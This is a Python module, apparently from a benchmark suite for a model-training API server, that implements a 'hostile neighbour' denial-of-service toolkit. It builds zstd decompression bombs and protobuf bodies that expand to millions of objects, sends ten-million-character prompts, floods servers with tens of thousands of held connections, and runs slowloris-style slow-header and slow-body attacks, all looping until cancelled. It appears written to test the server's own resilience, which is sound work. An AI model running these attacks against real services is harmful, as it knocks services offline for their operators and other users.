"""Attacks of a hostile neighbour. Each `async def attack(address, key)` runs until it is cancelled.

The argument `address` is a server's base URL (`http://127.0.0.1:8000`), `key` an API key of the attacker; attacks
that need no key say so. Responses are read and ignored, because a rejection is no obstacle to an attacker.
The mapping `ATTACKS` contains all of them. Request bodies have functions of their own, for tests of their cost.

    python -m bench neighbour --be NAME --address ADDRESS --key KEY
"""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import resource
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

import zstandard

from cotrain.wire.proto import wire_pb2

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[str, str], Awaitable[None]]

JSON = {"content-type": "application/json"}
PROTOBUF = {"content-type": "application/x-protobuf"}
ZSTD = {"content-encoding": "zstd"}

#: Number of concurrent requests of one attacker.
AT_ONCE = 4
RETRIEVES_AT_ONCE, IDS_PER_RETRIEVE = 12, 100_000
#: Connections opened by a flood, if the limits of this process allow.
MANY = 30_000
#: Variable with the address that attacks come from, because an edge limits connections by address.
ATTACKER_ADDRESS = "ATTACKER_ADDRESS"
#: Connections that a flood opens concurrently; beyond this, the attacker's own kernel refuses them.
BURST = 500


# ---- Small on the wire, large as objects -----------------------------------------------------------


def deflated_json_body(plain_bytes: int = 30_000_000) -> bytes:
    """Return zstd of JSON that consists of empty lists only: 10 million in 3 KB."""
    count = plain_bytes // 3
    return zstandard.compress(b"[" + b"[]," * (count - 1) + b"[]]")


def empty_datums_body(plain_bytes: int = 8_000_000) -> bytes:
    """Return zstd of a pass with empty datums only: 4 million in 800 bytes."""
    return zstandard.compress(b"\x0a\x01a\x10\x01" + b"\x1a\x00" * (plain_bytes // 2))


def empty_fields_body(plain_bytes: int = 66_000_000) -> bytes:
    """Return zstd of a pass that sets an empty run name 33 million times, in 6 KB."""
    return zstandard.compress(b"\x0a\x00" * (plain_bytes // 2))


def tiny_datums_body(run: str, datums: int = 65_536) -> bytes:
    """Return zstd of a pass with the maximum number of one-token datums: 4 s to check, in 2 KB."""
    made = wire_pb2.ForwardBackwardRequest()
    datum = made.data.add()
    datum.model_input.add().encoded_text.tokens = bytes(4)
    types = {"target_tokens": wire_pb2.DTYPE_INT32, "weights": wire_pb2.DTYPE_FLOAT32}
    for name, dtype in types.items():
        tensor = datum.loss_fn_inputs[name]
        tensor.dtype, tensor.dense = dtype, bytes(4)
        tensor.shape.append(1)
    head = wire_pb2.ForwardBackwardRequest(model_id=run, seq_id=1)
    tail = wire_pb2.ForwardBackwardRequest(loss_fn="cross_entropy")
    many = made.SerializeToString() * datums
    return zstandard.compress(head.SerializeToString() + many + tail.SerializeToString())


def wrong_numbers_body(count: int = 4_000_000) -> bytes:
    """Return zstd of a prompt with four million values, each wrong in four ways."""
    prompt = b"1.5," * (count - 1) + b"1.5"
    return zstandard.compress(b'{"model": "m", "prompt": [' + prompt + b"]}")


async def deflated_json(address: str, key: str) -> None:
    """Send passes of 3 KB that expand to ten million lists, four at once."""
    body = deflated_json_body()
    await _at_once(AT_ONCE, lambda: _post(address, key, "/api/v1/forward", body, JSON | ZSTD))


async def empty_datums(address: str, key: str) -> None:
    """Send passes of 800 bytes that expand to four million datums, four at once."""
    body = empty_datums_body()
    path = "/api/v1/forward_backward"
    await _at_once(AT_ONCE, lambda: _post(address, key, path, body, PROTOBUF | ZSTD))


async def empty_fields(address: str, key: str) -> None:
    """Send passes of 6 KB with 33 million fields, four at once."""
    body, path = empty_fields_body(), "/api/v1/forward_backward"
    await _at_once(AT_ONCE, lambda: _post(address, key, path, body, PROTOBUF | ZSTD))


async def tiny_datums(address: str, key: str) -> None:
    """Send passes of one run with the maximum number of datums, four at once."""
    body, path = tiny_datums_body(await _run_of(address, key)), "/api/v1/forward_backward"
    await _at_once(AT_ONCE, lambda: _post(address, key, path, body, PROTOBUF | ZSTD))


async def wrong_numbers(address: str, key: str) -> None:
    """Send four million numbers that are not tokens to `/oai`, four at once."""
    body, path = wrong_numbers_body(), "/oai/api/v1/completions"
    await _at_once(AT_ONCE, lambda: _post(address, key, path, body, JSON | ZSTD))


# ---- Much work for one request ----------------------------------------------------------------------


async def long_text(address: str, key: str, characters: int = 10_000_000) -> None:
    """Send prompts of ten million characters to `/oai`, four at once."""
    model = (await _get(address, key, "/oai/api/v1/models"))["data"][0]["id"]
    text = "It was a bright cold day in April. " * (characters // 35)
    body = json.dumps({"model": model, "prompt": text, "max_tokens": 1}).encode()
    await _at_once(AT_ONCE, lambda: _post(address, key, "/oai/api/v1/completions", body, JSON))


async def big_retrieves(address: str, key: str) -> None:
    """Acknowledge 100,000 nonexistent results in each of twelve concurrent polls."""
    sampler = await _sampler(address, key)
    ids = [f"{sampler}:{seq}" for seq in range(IDS_PER_RETRIEVE)]
    target = {"type": "sampling_session", "sampling_session_id": sampler}
    body = json.dumps({"target": target, "timeout": 0.0, "retrieved_request_ids": ids}).encode()
    path = "/api/v1/retrieve_futures"
    await _at_once(RETRIEVES_AT_ONCE, lambda: _post(address, key, path, body, JSON))


# ---- Connections ---------------------------------------------------------------------------------


async def descriptor_flood(address: str, key: str) -> None:
    """Open connections as fast as they are accepted and send nothing; needs no key."""
    del key
    await _hold(address, lambda _: b"")


async def slow_heads(address: str, key: str) -> None:
    """Open many connections and send one byte of a request head on each periodically; needs no key."""
    del key
    await _hold(address, lambda sent: b"GET / HTTP/1.1\r\nhost: x\r\nx: " if not sent else b"x")


async def many_connections(address: str, key: str) -> None:
    """Send a request on many connections periodically, and keep all of them open in between."""
    asked = f"GET /api/v1/healthz HTTP/1.1\r\nhost: x\r\nx-api-key: {key}\r\n\r\n".encode()
    await _hold(address, lambda _: asked)


async def slow_bodies(address: str, key: str) -> None:
    """Send requests on many connections whose bodies arrive byte by byte."""
    head = (
        f"POST /api/v1/forward HTTP/1.1\r\nhost: x\r\nx-api-key: {key}\r\n"
        "content-type: application/json\r\ncontent-length: 1000000\r\n\r\n"
    ).encode()
    await _hold(address, lambda sent: b"[" if sent else head)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        deflated_json, empty_datums, empty_fields, tiny_datums, wrong_numbers, long_text, big_retrieves,
        descriptor_flood, slow_heads, many_connections, slow_bodies,
    )
}  # fmt: skip


# ---- Sending --------------------------------------------------------------------------------------


async def _at_once(count: int, send: Callable[[], Awaitable[Any]]) -> None:
    async def again_and_again() -> None:
        while True:
            try:
                await send()
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.1)  # the server has closed the connection

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(again_and_again())


async def _hold(address: str, next_bytes: Callable[[int], bytes], every_s: float = 5.0) -> None:
    """Open MANY connections, write the next bytes on each every `every_s`, and reopen closed ones."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    count = min(MANY, most - 500)
    opening = asyncio.Semaphore(BURST)

    async def one() -> None:
        while True:
            with suppress(OSError):
                async with opening:
                    reader, writer = await _open(address)
                try:
                    await _trickle(reader, writer, next_bytes, every_s)
                finally:
                    writer.close()
            await asyncio.sleep(0.2)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(one())


async def _trickle(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    next_bytes: Callable[[int], bytes],
    every_s: float,
) -> None:
    for sent in itertools.count():
        writer.write(next_bytes(sent))
        with suppress(TimeoutError):
            async with asyncio.timeout(every_s):
                while await reader.read(4096):
                    pass
                return  # closed by the server


async def _open(address: str) -> Streams:
    url = urlsplit(address)
    source = os.environ.get(ATTACKER_ADDRESS)
    local = (source, 0) if source else None
    return await asyncio.open_connection(
        url.hostname, url.port or 80, limit=2**16, local_addr=local
    )


async def _post(
    address: str, key: str, path: str, body: bytes, headers: Mapping[str, str]
) -> bytes:
    return await _ask(address, key, "POST", path, body, headers)


async def _get(address: str, key: str, path: str) -> Any:
    return json.loads(await _ask(address, key, "GET", path, b"", {}))


async def _ask(
    address: str, key: str, method: str, path: str, body: bytes, headers: Mapping[str, str]
) -> bytes:
    """Send one request on a connection of its own; return the body of the response."""
    lines = [
        f"{method} {path} HTTP/1.1", "host: attack", f"x-api-key: {key}", "connection: close",
        f"content-length: {len(body)}", *(f"{name}: {value}" for name, value in headers.items()),
    ]  # fmt: skip
    reader, writer = await _open(address)
    try:
        writer.write("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
        _, _, content = (await reader.read(-1)).partition(b"\r\n\r\n")
        return content
    finally:
        writer.close()


async def _run_of(address: str, key: str) -> str:
    """Create a session and a run on the server's first base model; return its id."""
    model = (await _get(address, key, "/oai/api/v1/models"))["data"][0]["id"]
    made = json.loads(await _post(address, key, "/api/v1/create_session", b"{}", JSON))
    wanted = {
        "session_id": made["session_id"], "model_seq_id": 0, "base_model": model,
        "lora_config": {"rank": 8},
    }  # fmt: skip
    body = json.dumps(wanted).encode()
    run: str = json.loads(await _post(address, key, "/api/v1/create_model", body, JSON))["model_id"]
    return run


async def _sampler(address: str, key: str) -> str:
    """Create a session and a sampler on the server's first base model; return its id."""
    model = (await _get(address, key, "/oai/api/v1/models"))["data"][0]["id"]
    made = json.loads(await _post(address, key, "/api/v1/create_session", b"{}", JSON))
    wanted = {
        "session_id": made["session_id"], "sampling_session_seq_id": 0, "base_model": model,
    }  # fmt: skip
    path, body = "/api/v1/create_sampling_session", json.dumps(wanted).encode()
    sampler: str = json.loads(await _post(address, key, path, body, JSON))["sampling_session_id"]
    return sampler
